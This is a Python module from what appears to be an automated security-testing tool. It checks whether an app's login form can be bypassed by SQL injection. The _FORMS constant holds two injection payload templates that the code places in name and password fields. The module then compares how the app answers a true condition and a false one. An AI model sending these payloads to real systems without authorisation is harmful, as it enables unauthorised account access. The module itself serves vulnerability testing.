"""Signing in with a condition for a name: the one way into an app that needs no account."""

from collections.abc import Mapping
from typing import Final

from buckler.drill.attack import Finding
from buckler.drill.attacks.aiming.aim import Aim, served
from buckler.drill.attacks.aiming.sending import renewed, send
from buckler.drill.drafting.draft import Draft
from buckler.drill.engagement import Engagement
from buckler.drill.people.entry import Step
from buckler.drill.plan.route import Slot
from buckler.drill.transport.answer import Exchange
from buckler.randomness import identifier

_FORMS: Final = ("{0}' OR '{1}'='{2}' -- ", "{0}' OR '{1}' LIKE '{2}")
"""The rest of the statement made a comment, and left as it is."""


async def opened_by_condition(on: Engagement, aim: Aim) -> Finding | None:
    """The finding where a condition that is true lets in and one that is false does not."""
    step = on.cast.entry.sign_in if on.cast.entry is not None else None
    fields = credential_slots(step, aim)
    if not aim.refused or not aim.who.is_anybody or not fields:
        return None
    for form in _FORMS:
        for among in (fields[:1], fields):
            opened = await _tried(on, aim, among, form, true=True)
            if served(opened.answer):
                closed = await _tried(on, aim, among, form, true=False)
                if not served(closed.answer):
                    words = "A condition that is always true, in the place of a name, signs in."
                    return Finding(aim.route.key, words, opened, (aim.control, closed), place=str(among[0]))
    return None


def credential_slots(step: Step | None, aim: Aim) -> tuple[Slot, ...]:
    """The places of the name and of the password, where this is where one signs in."""
    if step is not None and step.route.key == aim.route.key:
        ways = [step.fields[part] for part in ("name", "email", "password") if part in step.fields]
        place = "body" if aim.route.body is None else aim.slots[0].place if aim.slots else "body"
        known: Mapping[tuple[str, ...], Slot] = {slot.way: slot for slot in aim.slots}
        return tuple(known.get(way, Slot(place, way)) for way in ways)
    password = [slot for slot in aim.slots if "pass" in slot.name.lower()]
    names = [slot for slot in aim.slots if any(word in slot.name.lower() for word in ("name", "mail", "login", "user"))]
    return (names[0], password[0]) if names and password else ()


async def _tried(on: Engagement, aim: Aim, slots: tuple[Slot, ...], form: str, *, true: bool) -> Exchange:
    draft: Draft = await renewed(on, aim)
    word, other = identifier()[:6], identifier()[:6]
    for slot in slots:
        draft = draft.put(slot, form.format(other, word, word if true else other))
    return await send(on, aim, draft)
